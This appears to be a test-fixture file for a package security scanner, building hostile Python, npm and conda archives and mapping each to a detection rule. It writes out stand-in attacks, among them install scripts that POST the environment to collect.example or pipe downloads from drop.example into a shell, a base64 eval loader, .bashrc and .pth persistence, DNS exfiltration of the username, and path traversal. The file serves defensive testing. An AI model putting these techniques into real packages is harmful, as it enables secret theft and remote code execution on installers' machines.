import { gzipSync } from 'node:zlib'
import { tarExample } from '../../bytes/tar/tar-example.ts'
import {
  condaExample,
  npmExample,
  PROGRAM_BYTES,
  sdistExample,
  wheelExample,
  type BuiltArchive,
} from './built.examples.ts'
import type { ReleaseExample } from './hostile.examples.ts'

const PAYLOAD = Buffer.from("print('payload')").toString('base64')
const NOTHING = { 'sample/__init__.py': "__version__ = '1.0'\n" }
const SETUP = "from setuptools import setup\nsetup(name='sample', version='1.0', packages=['sample'])\n"

/** Archives that lie about what they hold, scripts of npm and conda, and what came up in the wild since. */
export const hostileArchives: readonly ReleaseExample[] = [
  {
    what: 'RECORD states the hash of another file',
    archives: [
      wheelExample(
        { ...NOTHING, 'sample/core.py': 'x = 1\n' },
        {
          record: (rows) =>
            rows.map((row) => row.replace(/^(sample\/core\.py),sha256=[^,]{4}/, '$1,sha256=AAAA')),
        },
      ),
    ],
    rules: ['packages-record-mismatch'],
  },
  {
    what: 'a name occurs twice in the wheel',
    archives: [
      wheelExample(NOTHING, { unlisted: [{ name: 'sample/__init__.py', data: "print('payload')\n" }] }),
    ],
    rules: ['packages-archive-confusion'],
  },
  {
    what: 'the local header names another file',
    archives: [
      wheelExample(NOTHING, {
        unlisted: [
          { name: 'sample/data.txt', data: "print('payload')\n", local: { name: 'sample/evil.py' } },
        ],
      }),
    ],
    rules: ['packages-archive-confusion'],
  },
  {
    what: 'two end records lead to two directories',
    archives: [twoDirectories()],
    rules: ['packages-archive-confusion'],
  },
  {
    what: 'a member that no directory lists',
    archives: [
      wheelExample(NOTHING, {
        unlisted: [{ name: 'sample/hidden.py', data: "print('payload')\n", hidden: true }],
      }),
    ],
    rules: ['packages-archive-confusion'],
  },
  {
    what: 'names that leave the folder',
    archives: [wheelExample(NOTHING, { unlisted: [{ name: '../../../.bashrc', data: 'echo payload\n' }] })],
    rules: ['packages-path-traversal'],
  },
  {
    what: 'a tar with names that leave the folder',
    archives: [
      {
        file: 'sample-1.0.tar.gz',
        bytes: gzipSync(
          tarExample([
            { name: 'sample-1.0/PKG-INFO', data: 'Metadata-Version: 2.1\nName: sample\nVersion: 1.0\n' },
            { name: 'sample-1.0/../../etc/cron.d/x', data: 'echo payload\n' },
          ]),
        ),
      },
    ],
    rules: ['packages-path-traversal'],
  },
  {
    what: 'two dist-info folders',
    archives: [
      wheelExample({
        ...NOTHING,
        'other-9.dist-info/METADATA': 'Metadata-Version: 2.1\nName: other\nVersion: 9\n',
      }),
    ],
    rules: ['packages-metadata-mismatch'],
  },
  {
    what: 'an npm postinstall that sends the environment',
    archives: [
      npmExample(
        { scripts: { postinstall: 'node index.js' } },
        {
          'index.js':
            "const https = require('https');\nconst req = https.request({ host: 'collect.example', method: 'POST' });\nreq.write(JSON.stringify(process.env));\nreq.end();\n",
        },
      ),
    ],
    rules: ['packages-exfiltration'],
  },
  {
    what: 'an npm preinstall that pipes a download into a shell',
    archives: [npmExample({ scripts: { preinstall: 'curl -fsSL https://drop.example/x | sh' } })],
    rules: ['packages-dropper'],
  },
  {
    what: 'an npm postinstall that evaluates encoded text',
    archives: [
      npmExample(
        { scripts: { postinstall: 'node lib/setup' } },
        {
          'lib/setup.js': `require('./x');\n`,
          'lib/x.js': `eval(Buffer.from('${PAYLOAD}', 'base64').toString());\n`,
        },
      ),
    ],
    rules: ['packages-hidden-code'],
  },
  {
    what: 'a conda post-link script that downloads and runs',
    archives: [
      condaExample({
        'site-packages/sample/__init__.py': '',
        'bin/.sample-post-link.sh': '#!/bin/bash\nwget -q https://drop.example/x -O - | bash\n',
      }),
    ],
    rules: ['packages-dropper'],
  },
  {
    what: 'a program named like a picture',
    archives: [wheelExample({ ...NOTHING, 'sample/logo.png': PROGRAM_BYTES })],
    rules: ['packages-disguised-program'],
  },
  {
    what: 'a new release starts what the old one did not',
    archives: [wheelExample({ ...NOTHING, 'sample.pth': 'import sample\n' }, { version: '1.1' })],
    against: [wheelExample(NOTHING)],
    rules: ['packages-new-code'],
  },
  {
    what: 'a module plants itself in the profile of a shell on import',
    archives: [
      wheelExample({
        'sample/__init__.py':
          "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('echo payload\\n')\n",
      }),
    ],
    rules: ['packages-persistence'],
  },
  {
    what: 'setup.py writes a .pth into site-packages',
    archives: [
      sdistExample({
        ...NOTHING,
        'setup.py': `import os, site\nopen(os.path.join(site.getsitepackages()[0], 'sample.pth'), 'w').write('import sample_boot')\n${SETUP}`,
      }),
    ],
    rules: ['packages-persistence'],
  },
  {
    what: 'the name of the user is asked of a name server on import',
    archives: [
      wheelExample({
        'sample/__init__.py':
          "import binascii, getpass, socket\nd = binascii.hexlify(getpass.getuser().encode()).decode()\nsocket.gethostbyname(d + '.collect.example')\n",
      }),
    ],
    rules: ['packages-exfiltration'],
  },
  {
    what: 'code that RECORD does not list',
    archives: [
      wheelExample(NOTHING, { unlisted: [{ name: 'sample/extra.py', data: "print('payload')\n" }] }),
    ],
    rules: ['packages-record-mismatch'],
  },
  {
    what: 'data behind the end of a wheel',
    archives: [wheelExample(NOTHING, { archive: { trailing: Buffer.from('payload') } })],
    rules: ['packages-archive-confusion'],
  },
]

/** One directory behind the other, each led to by an end record of its own. */
function twoDirectories(): BuiltArchive {
  const clean = wheelExample(NOTHING)
  const other = wheelExample({ 'sample/__init__.py': "print('payload')\n" })
  return { file: clean.file, bytes: Buffer.concat([other.bytes, clean.bytes]) }
}
